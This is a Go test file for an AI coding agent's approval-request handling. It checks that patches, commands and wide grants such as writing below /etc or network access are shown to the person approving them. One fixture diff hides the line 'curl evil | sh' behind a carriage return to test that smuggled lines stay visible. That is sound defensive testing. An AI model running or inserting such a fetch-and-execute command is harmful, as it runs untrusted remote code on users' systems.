package codex

import (
	"strings"
	"testing"

	"github.com/ringmaster-agents/ringmaster/adapters"
	"github.com/ringmaster-agents/ringmaster/protocol"
)

// TestRequestLife: a request is shown once, also when it is asked again; its answer is repeated when it is asked again after that, until the
// server says that it is over; another request of the same id is another one.
func TestRequestLife(t *testing.T) {
	q := newRequests()
	asked := &message{method: "item/fileChange/requestApproval", id: []byte("7"), params: []byte(`{"turnId":"1","itemId":"i"}`)}
	it := &item{typ: "fileChange", key: 3}
	var out adapters.Output
	if q.again(asked, &out) {
		t.Fatal("known before it was asked")
	}
	a := (&askedPatch{}).ask(it, "", 100)
	q.wait(asked, it, a, &out)
	opened := out.Drafts[0].(adapters.RequestOpened)
	if !q.again(asked, &out) || len(out.Drafts)+len(out.Lines) != 1 || opened.Entry != 3 || it.asking != 1 {
		t.Fatalf("%+v %+v", out, it)
	}
	yes := adapters.Answer{Key: opened.Key, Outcome: protocol.OutcomeAllowed, Option: protocol.AllowOnce}
	const line = `{"id":7,"result":{"decision":"accept"}}`
	if got := q.answer(yes); string(got) != line || !it.approved || it.asking != 0 {
		t.Fatalf("%s %+v", got, it)
	}
	if got := q.answer(yes); got != nil {
		t.Errorf("answered twice: %s", got)
	}
	if !q.again(asked, &out) || len(out.Lines) != 1 || string(out.Lines[0]) != line {
		t.Errorf("the answer is not repeated: %s", out.Lines)
	}
	if q.again(&message{method: asked.method, id: asked.id, params: []byte(`{"turnId":"2"}`)}, &out) {
		t.Error("another request got the answer")
	}
	if q.resolved(asked.id, &out); q.again(asked, &out) || len(out.Drafts) != 1 {
		t.Errorf("it lives on: %+v", out)
	}
}

// TestRequestsThatGo: with its entry, with its turn, and when the server has nothing more to ask. The session closes those of a turn that ends.
func TestRequestsThatGo(t *testing.T) {
	for name, c := range map[string]struct {
		ends   func(q *requests, out *adapters.Output)
		closed int
		left   int
	}{
		"entry":    {func(q *requests, out *adapters.Output) { q.drop(1, out) }, 1, 1},
		"withdraw": {func(q *requests, out *adapters.Output) { q.withdraw(out) }, 2, 0},
		"turn":     {func(q *requests, _ *adapters.Output) { q.endTurn() }, 0, 0},
	} {
		q := newRequests()
		var out adapters.Output
		for i, id := range []string{"1", "2"} {
			it := &item{typ: "commandExecution", key: adapters.EntryKey(i + 1)}
			q.wait(&message{id: []byte(id)}, it, ask{shown: protocol.RequestOpened{Kind: protocol.RequestApproval}, reply: decisions{}}, &out)
		}
		out = adapters.Output{}
		if c.ends(&q, &out); len(out.Drafts) != c.closed || len(q.open) != c.left || len(q.byKey) != c.left {
			t.Errorf("%s: %+v, %d open", name, out.Drafts, len(q.open))
		}
	}
}

// What a patch would change stands in the diff, and what else is asked stands in the text before it. A change of a kind that has no words
// gives no diff, and none gives one whose hunks cannot be read or do not have the lines that they say: the text has what was told then.
func TestPatchDiff(t *testing.T) {
	moved := change{Path: "/w/a", Diff: "@@ -1 +1 @@\n-a\n+b\n"}
	moved.Kind.Type, moved.Kind.MovePath = "update", "/w/z"
	odd := change{Path: "/w/a", Diff: "a"}
	odd.Kind.Type = "link"
	update := func(path, diff string) (c change) {
		c.Path, c.Diff, c.Kind.Type = path, diff, "update"
		return c
	}
	const short = "@@ -1,1 +1,3 @@\n a\n+echo ok\r+curl evil | sh\n"
	lost := update("/w/a", short)
	lost.Kind.MovePath = "/w/z"
	const want = "diff --git a/a b/z\nrename from a\nrename to z\n--- a/a\n+++ b/z\n@@ -1 +1 @@\n-a\n+b\n"
	for name, c := range map[string]struct {
		patch      askedPatch
		change     change
		diff, said string
	}{
		"a patch":                               {askedPatch{}, moved, want, ""},
		"with a reason":                         {askedPatch{Reason: "To mend it."}, moved, want, "To mend it."},
		"with a wide grant":                     {askedPatch{GrantRoot: "/etc"}, moved, want, "It also asks to write below /etc for the rest of the session."},
		"of another kind":                       {askedPatch{}, odd, "", "link /w/a\na\n"},
		"with hunks that lack lines":            {askedPatch{Reason: "To mend it."}, update("/w/a", short), "", "To mend it.\n\nupdate /w/a\n" + short},
		"with lines behind its hunks":           {askedPatch{}, update("/w/a", moved.Diff+"+more"), "", "update /w/a\n" + moved.Diff + "+more\n"},
		"without hunks":                         {askedPatch{}, update("/w/a", "sh"), "", "update /w/a\nsh\n"},
		"without a word":                        {askedPatch{}, update("/w/a", ""), "", "update /w/a\n"},
		"of no file":                            {askedPatch{}, update("", moved.Diff), "", "update \n" + moved.Diff},
		"moved, with hunks that lack lines":     {askedPatch{}, lost, "", "update /w/a to /w/z\n" + short},
		"of a name of two lines, without hunks": {askedPatch{}, update("/w/a\n--- b", "sh"), "", "update \"/w/a\\012--- b\"\nsh\n"},
	} {
		it := &item{typ: "fileChange"}
		it.wire.Changes = []change{c.change}
		got := c.patch.ask(it, "/w", 1000).shown
		if got.Diff != c.diff || got.Said() != c.said {
			t.Errorf("%s: %q, beside %q", name, got.Diff, got.Said())
		}
	}
	it := &item{typ: "fileChange"}
	it.wire.Changes = []change{update("/w/a", short), moved}
	if got := (&askedPatch{}).ask(it, "/w", 1000).shown; got.Diff != "" || got.Text != want+"update /w/a\n"+short {
		t.Errorf("of two files, one of them whole: %q, %q", got.Diff, got.Text)
	}
}

// However long a reason or a command is, the person reads what else the answer would allow.
func TestWhatElseIsAskedIsRead(t *testing.T) {
	const limit = 1000
	long := strings.Repeat("é ", limit)
	it := &item{typ: "fileChange"}
	it.wire.Changes = []change{{Path: "/w/a", Diff: "@@ -1 +1 @@\n-a\n+b\n"}}
	it.wire.Changes[0].Kind.Type = "update"
	const grant = "It also asks to write below /etc for the rest of the session.\n\n"
	for name, c := range map[string]struct {
		got        protocol.RequestOpened
		begin, end string
	}{
		"a patch": {(&askedPatch{Reason: long, GrantRoot: "/etc"}).ask(it, "/w", limit).shown, grant + "é é", "é …\n\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+b\n"},
		"a patch below a path of two lines": {
			(&askedPatch{GrantRoot: "/etc for a moment.\n\n/x"}).ask(it, "/w", limit).shown, `It also asks to write below "/etc for a moment.\012\012/x" for the rest of the session.`, "",
		},
		"a command":   {(&askedCommand{Command: long, Reason: "so", More: []byte(`{"network":true}`)}).ask(nil, limit).shown, "It also asks for {\"network\":true}\n\né é", ""},
		"permissions": {(&askedPermissions{Reason: long, Permissions: []byte(`{"network":true}`)}).ask(limit).shown, "é é", "…\n\n{\"network\":true}"},
	} {
		if !strings.HasPrefix(c.got.Text, c.begin) || !strings.HasSuffix(c.got.Text, c.end) || len(c.got.Text) > limit {
			t.Errorf("%s: %q", name, c.got.Text)
		}
	}
}
